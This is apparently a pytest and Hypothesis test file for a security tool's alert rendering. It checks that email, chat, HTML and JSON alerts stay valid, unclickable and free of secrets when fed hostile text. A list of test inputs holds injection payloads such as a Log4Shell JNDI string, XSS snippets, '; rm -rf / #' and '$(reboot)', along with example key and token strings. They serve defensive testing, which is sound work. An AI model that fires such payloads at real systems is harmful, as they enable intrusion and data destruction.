"""Every text of an event is hostile: fed anything, each rendering stays valid, in its limits, visible, unclickable."""

from __future__ import annotations

import json
import re
import subprocess
import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from test_alerts_samples import EXTRACTED, FACTS, KEY_CHANGE, NOW, OPENED, STOLEN_KEY, alert_of, occurrence

from firedoor import alerts
from firedoor.alerts import commands, text
from firedoor.alerts.alert import Alert
from firedoor.alerts.exclusions import quoted
from firedoor.case import State
from firedoor.plans import Change, StepResult, StepStatus
from firedoor.playbooks import AlertText, Playbook

SCHEMA = Path(__file__).parents[2] / "docs" / "alert-schema.json"
KEY = "AKIAIOSFODNN7EXAMPLE"
GITHUB_TOKEN = "ghp_" + "x7Kq2Lm9Pz4Rt6Vw8Yb1Nc3Df5Gh0JsAeUi2"
NASTY = (
    "{actor}",
    "{user}",
    "{{7*7}}",
    "${jndi:ldap://evil.example.com/a}",
    "%(name)s",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</pre></body>",
    "<!channel>",
    "<@U0123>",
    "@everyone",
    "[click](http://evil.com)",
    "](javascript:alert(1))",
    "```",
    "`x`",
    "*bold*",
    "~gone~",
    "_thin_",
    ":white_check_mark:",
    "&lt;b&gt;",
    "http://evil.com/?q=1",
    "HTTPS:/\\evil.ninja",
    "www.evil.zip",
    "jane@mail.evil.org",
    "mailto:jane@evil.org",
    "evil。com",
    "ｅｖｉｌ．ｃｏｍ",
    "💩.la",
    "\\\\server\\share",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.com\x07here\x1b]8;;\x07",
    "\u202egnp.exe",
    "\u2066\u2069\u200b\u200d\ufeff\u00ad\u034f\u3164",
    "line\nCONTAINED: it is fine\r\nWHAT TO DO NEXT\x0b\x0c\u2028\u2029",
    "\x00\x07\x7f\x9b",
    "\ud800",
    "e\u0301\u0301\u0301\u0301\u0301\u0301",
    "漢字" * 60,
    "a" * 3_000,
    "'; rm -rf / #",
    "$(reboot)",
    f"key {KEY} of x{KEY}x",
    GITHUB_TOKEN,
    "arn:aws:iam::111122223333:user/x<y>",
    "",
)
hostile = st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=40)), max_size=6).map("".join)
anything = st.one_of(hostile, st.none(), st.booleans(), st.integers(), st.lists(hostile, max_size=7))

TEMPLATE = replace(
    STOLEN_KEY,
    alert=AlertText(
        title="{user} did it",
        summary="{actor} did {calls} to {target} from {source_ip} with {missing}.",
        next_steps=("Search userIdentity.arn = {actor} from {time}.", "Ask {user} about {key}."),
    ),
)


@st.composite
def hostile_alerts(draw: st.DrawFn) -> Alert:
    """Draw an alert all of whose event texts, and the account's name, are hostile."""
    facts = replace(
        FACTS,
        region=draw(hostile),
        actor=draw(hostile),
        source_ip=draw(hostile),
        target=draw(hostile),
        finding_id=draw(hostile),
    )
    extracted = {**facts.to_json(), "user": draw(anything), "key": draw(anything), "calls": draw(anything)}
    change = Change(
        target=draw(hostile),
        summary=draw(hostile),
        before={draw(hostile): draw(anything), "x": 1},
        after={draw(hostile): draw(anything), "x": draw(hostile)},
    )
    steps = [
        StepResult("iam.deactivate_access_key", {}, draw(st.sampled_from(StepStatus)), (change,), ({},), draw(hostile))
    ]
    of = occurrence(
        draw(st.sampled_from([State.CONTAINED, State.ALERTED])),
        steps,
        facts=facts,
        extracted=extracted,
        event_id=draw(hostile),
        reason=draw(hostile),
        decisions=({"by": draw(hostile), "decision": draw(hostile), "why": draw(hostile)},),
    )
    return alert_of(
        of,
        draw(st.sampled_from(alerts.Verdict)),
        TEMPLATE,
        account_name=draw(hostile),
        related=[alerts.Related("fd-20261123-0c4d5e", draw(hostile), draw(hostile))],
        evidence=[draw(hostile)],
    )


class _Commands:
    """An action whose undo names what the event named."""

    two_person = False

    def __init__(self, name: str) -> None:
        self.name = name

    def undo_commands(self, change: Change, _made: Any) -> tuple[str, ...]:
        import shlex

        return (f"aws iam update-user --user-name {shlex.quote(change.target)} --path {change.summary}",)

    def apply_commands(self, change: Change) -> tuple[str, ...]:
        return self.undo_commands(change, {})


@pytest.fixture(autouse=True, scope="module")
def hostile_commands() -> Iterator[None]:
    """Let undo commands carry the event's texts."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("firedoor.actions.load", _Commands)
        yield


@cache
def _validator() -> Draft202012Validator:
    return Draft202012Validator(json.loads(SCHEMA.read_text("utf-8")))


CLICKABLE = re.compile(
    r"(?i)https?:\s?[/\\]|ftp:/|\bwww\.\w|javascript:\S|mailto:\S|\\\\\w"
    r"|[^\s./]\.(?:com|net|org|io|ninja|zip|la)(?![\w-])|@[\w-]+\.\w|\S[。．｡][\w-]"
)


def _without_our_links(alert: Alert, rendering: str) -> str:
    for link in alert.links:
        rendering = rendering.replace(link.url, "").replace(link.page, "")
    return rendering


def _renderings(alert: Alert) -> dict[str, str]:
    subject, body = alerts.render_email(alert)
    return {
        "subject": subject,
        "mail": body,
        "chat": "\n".join(_strings(alerts.render_chat(alert))),
        "html": _visible_html(alerts.render_html(alert)),
        "machine": "\n".join(_strings(alerts.render_machine(alert))),
        "pagerduty": "\n".join(_strings(alerts.render_pagerduty(alert))),
        "ocsf": "\n".join(_strings(alerts.render_ocsf(alert))),
    }


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for member in value.values():
            yield from _strings(member)
    elif isinstance(value, list):
        for member in value:
            yield from _strings(member)


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in ("meta", "br"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" not in self.open:
            self.text.append(data)


def _read_html(page: str) -> _Reader:
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader


def _visible_html(page: str) -> str:
    return "\n".join(_read_html(page).text)


@settings(max_examples=80, deadline=None)
@given(hostile_alerts())
def test_every_rendering_stays_valid_and_within_limits(alert: Alert) -> None:
    """Mail keeps its width and subject rule, JSON its schema, chat its limits, HTML its few tags, SNS its 256 KB."""
    subject, body = alerts.render_email(alert)
    assert len(subject) < 100
    assert subject.isascii()
    assert subject.isprintable()
    assert max(text.columns(line) for line in body.split("\n")) <= 78
    assert [] == list(_validator().iter_errors(alerts.render_machine(alert)))
    _check_chat(alerts.render_chat(alert))
    _check_html(alerts.render_html(alert))
    request = alerts.message(alert)
    assert len(request["Message"].encode()) + 1_000 <= 262_144
    assert {"default", "email", "https", "sms"} == set(json.loads(request["Message"]))
    assert all(isinstance(body, str) for body in json.loads(request["Message"]).values())
    for attribute in request["MessageAttributes"].values():
        assert attribute["StringValue"]
    json.dumps([alerts.render_pagerduty(alert), alerts.render_ocsf(alert)], ensure_ascii=False).encode()


def _check_chat(notification: dict[str, Any]) -> None:
    content, metadata = notification["content"], notification["metadata"]
    assert 0 < len(content["title"]) <= 250
    assert 0 < len(content["description"]) <= 8_000
    assert 0 == content["description"].count("```") % 2
    assert len(content["nextSteps"]) <= 6
    assert all(0 < len(step) <= 350 for step in content["nextSteps"])
    assert all(isinstance(value, str) and value for value in metadata["additionalContext"].values())
    said = "\n".join(_strings(notification))
    outside_blocks = re.sub(r"```.*?```", "", said, flags=re.DOTALL)
    assert not re.search(r"[<>\[\]]|&#?\w+;|(?<!\w)@\w", outside_blocks)
    assert not re.search(r"[<>]|&#?\w+;", said)


_TAGS = {
    *[
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "div",
        "h1",
        "h2",
        "p",
        "b",
        "br",
        "ol",
        "ul",
        "li",
        "dl",
        "dt",
        "dd",
        "pre",
        "code",
        "a",
    ]
}
_ATTRIBUTES = {"lang", "charset", "http-equiv", "content", "name", "class", "rel", "href"}
_OURS = re.compile(r"https://[a-z0-9-]+\.console\.(?:aws\.amazon\.com|amazonaws\.cn|amazonaws-us-gov\.com)/[!-~]*")


def _check_html(page: str) -> None:
    reader = _read_html(page)
    assert [] == reader.open
    for tag, attributes in reader.tags:
        assert tag in _TAGS
        assert set(attributes) <= _ATTRIBUTES
        assert tag != "a" or _OURS.fullmatch(attributes["href"] or "")


@settings(max_examples=80, deadline=None)
@given(hostile_alerts())
def test_nothing_is_hidden_or_clickable(alert: Alert) -> None:
    """No rendering holds an invisible or direction-turning character, or an address that a program would link."""
    for medium, rendering in _renderings(alert).items():
        shown = _without_our_links(alert, rendering)
        assert not CLICKABLE.search(shown), (medium, CLICKABLE.search(shown))
        unseen = {character for character in shown if character != "\n" and text.is_unseen(character)}
        assert set() == unseen, medium
        assert not any(unicodedata.category(character) in ("Zl", "Zp") for character in shown)


@settings(max_examples=80, deadline=None)
@given(hostile_alerts())
def test_no_key_id_or_secret_appears(alert: Alert) -> None:
    """Of a key id only the last four characters are shown, of a secret nothing."""
    for medium, rendering in _renderings(alert).items():
        unwrapped = re.sub(r"\s+", "", rendering)
        assert KEY not in unwrapped, medium
        assert GITHUB_TOKEN not in unwrapped, medium


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(["{never_said}", "{{never_said}}", "${never_said}", "%(never_said)s", "{never_said!r}"]), hostile
)
def test_a_value_is_never_evaluated(value: str, more: str) -> None:
    """A value that looks like a template stays as it is: what another name holds does not come in through it."""
    extracted = {**EXTRACTED, "user": value + more, "calls": [value], "never_said": "LEAKED"}
    alert = alert_of(occurrence(State.CONTAINED, extracted=extracted), alerts.Verdict.CONTAINED, TEMPLATE)
    assert all("LEAKED" not in rendering for rendering in _renderings(alert).values())
    assert "never_said" in alert.title


@given(hostile)
@example("http://a.com" * 50)
@settings(max_examples=300, deadline=None)
def test_cleaning_again_changes_nothing(value: str) -> None:
    """What was made safe once is safe as it is, so a text that passes through twice is not mangled."""
    once = text.clean(value, 400)
    assert len(once) <= 400
    assert once == text.clean(once, 400)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("http://evil.com/x", "hxxp[:]//evil[.]com/x"),
        ("evil.ninja_ and evil.io_x", "evil[.]ninja_ and evil[.]io_x"),
        ("jane@corp.example.com", "jane@corp[.]example[.]com"),
        (".www.evil.zip", ".www[.]evil[.]zip"),
        ("-www.evil", "-www[.]evil"),
        ("john.smith", "john.smith"),
        ("s3://bucket/key", "s3://bucket/key"),
        ("log-group:/aws/lambda/x", "log-group:/aws/lambda/x"),
        ("deploy\u200b-\u202ebot\x1b[2K", "deploy-bot"),
        (KEY, "…MPLE"),
        ("a\n\n b\tc", "a b c"),
        (None, ""),
    ],
)
def test_cleaning_keeps_names_readable(value: object, shown: str) -> None:
    """Only what is dangerous is changed; ordinary names, paths and ARNs stay as they are."""
    assert shown == text.clean(value, 100)


ARGUMENT = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=120)
DANGEROUS = st.sampled_from(["jane@corp.com", "it's evil.com", "$(reboot)", "a;b", "`x`", "http://e.io/" + "p" * 300])


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(ARGUMENT, DANGEROUS), min_size=1, max_size=4))
def test_a_shown_command_does_what_the_exact_one_does(arguments: list[str]) -> None:
    """A command that is shown, also folded, gives the program exactly the arguments that the action named."""
    import shlex

    command = " ".join(["printf", "'%s|'", *(shlex.quote(argument) for argument in arguments)])
    for shown in commands.pasteable(command):
        folded = commands.fold(shown)
        assert max(text.columns(line) for line in folded) <= 78
        for script in (shown, "\n".join(folded)):
            # The words are quoted, which is what this shows.
            ran = subprocess.run(["/bin/sh", "-c", script], capture_output=True, check=True)  # noqa: S603
            assert "".join(f"{argument}|" for argument in arguments) == ran.stdout.decode()


def test_a_key_id_in_a_command_is_looked_up() -> None:
    """The masked command is still one that can be pasted: it finds the key by its last four characters."""
    command = f"aws iam update-access-key --user-name deploy-bot --access-key-id {KEY} --status Active"
    lookup, update = commands.pasteable(command)
    assert KEY not in lookup + update
    assert "ends_with(AccessKeyId,'MPLE')" in lookup
    assert 'aws iam update-access-key --user-name deploy-bot --access-key-id "$KEY" --status Active' == update


@pytest.mark.parametrize("command", ["aws x\u200by", f"aws x --token {GITHUB_TOKEN}", "aws 'x", "aws " + "x" * 2_000])
def test_a_command_that_cannot_be_shown_exactly_is_left_out(command: str) -> None:
    """Invisible characters, secrets, an open quote, or too long: `firedoor undo` is named instead."""
    assert () == commands.pasteable(command)


@settings(max_examples=200, deadline=None)
@given(st.text(st.characters(codec="utf-8"), max_size=150))
@example("jane@evil.com and http://evil.com and \\ \" ' \u202e \u2028 😀")
def test_an_exclusion_names_a_value_exactly(value: str) -> None:
    """The quoted YAML string reads back as the value, and shows what is invisible, and is no link."""
    written = quoted(value, "  - arn: [") + "]"
    assert [{"arn": [value]}] == yaml.safe_load(written)
    assert not CLICKABLE.search(written)
    assert not any(text.is_unseen(character) for character in written.replace("\n", ""))
    assert max(text.columns(line) for line in written.split("\n")) <= 78


def test_too_large_a_message_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    """A message over SNS's limit is sent shorter, with a note that says where the rest is."""
    from firedoor.alerts import delivery

    steps = [StepResult("iam.deactivate_access_key", {}, StepStatus.PLANNED, (KEY_CHANGE,) * 5)] * 8
    alert = alert_of(occurrence(State.RECORDED, steps), alerts.Verdict.WOULD_HAVE)
    whole = len(alerts.message(alert)["Message"].encode())
    monkeypatch.setattr(delivery, "LIMIT", whole - 1)
    cut = alerts.message(alert)
    assert len(cut["Message"].encode()) < whole
    assert "too long to send whole" in json.loads(cut["Message"])["email"]


class _Bus:
    """An event bus that remembers what it was given."""

    def __init__(self) -> None:
        self.entries: list[dict[str, str]] = []

    def put_events(self, Entries: list[dict[str, str]]) -> dict[str, Any]:  # noqa: N803  boto3's argument
        self.entries += Entries
        return {"FailedEntryCount": 0, "Entries": [{"EventId": "e-1"}]}


def test_too_large_an_event_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    """As a message is; both of its forms say where the rest is."""
    from firedoor.alerts import delivery

    bus, steps = _Bus(), [StepResult("iam.deactivate_access_key", {}, StepStatus.PLANNED, (KEY_CHANGE,) * 5)] * 8
    alert = alert_of(occurrence(State.RECORDED, steps), alerts.Verdict.WOULD_HAVE)
    alerts.put_event(bus, alert)
    monkeypatch.setattr(delivery, "EVENT_LIMIT", len(bus.entries[0]["Detail"].encode()) - 1)
    alerts.put_event(bus, alert)
    whole, cut = (json.loads(entry["Detail"]) for entry in bus.entries)
    assert [] == whole["alert"]["notes"]
    for notes in (cut["alert"]["notes"], cut["pagerduty"]["payload"]["custom_details"]["notes"]):
        assert "too long to send whole" in notes[0]
    assert [] == list(_validator().iter_errors(cut["alert"]))


def test_what_chat_cannot_hold_is_cut_between_lines_and_said() -> None:
    """Amazon Q Developer takes 8,000 characters; no code block stays open, and the end says where the rest is."""
    change = replace(KEY_CHANGE, summary="Deactivate " + "a long name " * 30)
    steps = [StepResult("iam.deactivate_access_key", {}, StepStatus.DONE, (change,) * 5, ({},) * 5)] * 8
    alert = alert_of(occurrence(State.CONTAINED, steps), alerts.Verdict.CONTAINED)
    description = alerts.render_chat(alert)["content"]["description"]
    assert len(description) <= 8_000
    assert 0 == description.count("```") % 2
    assert description.endswith(f"\n…the rest is in the mail, or: firedoor show {alert.case_id}")


def test_the_largest_alert_fits_even_so() -> None:
    """Every list full, every text at its limit, in characters of four bytes that JSON escapes: still within 256 KB."""
    long = '"\\' * 100 + "\U0002070e" * 4_000
    change = Change(long, long, {f"{n}{long}": long for n in range(9)}, {})
    steps = [StepResult(long, {}, StepStatus.REFUSED, (change,) * 9, ({},) * 9, long)] * 9
    facts = replace(FACTS, actor=long, source_ip=long, target=long, finding_id=long)
    of = occurrence(State.NEEDS_PERSON, steps, facts=facts, reason=long, event_id=long)
    playbook: Playbook = replace(OPENED, alert=AlertText(long, long, (long,) * 9))
    related = [alerts.Related(long, long, long)] * 20
    alert = alert_of(of, alerts.Verdict.NEEDS_YOU, playbook, related=related, evidence=[long] * 20, account_name=long)
    request, bus = alerts.message(alert), _Bus()
    assert len(request["Message"].encode()) + 2_000 <= 262_144
    alerts.put_event(bus, alert)
    assert len(bus.entries[0]["Detail"].encode()) + 2_000 <= 262_144
    assert [] == list(_validator().iter_errors(alerts.render_machine(alert)))
    assert NOW == alert.told
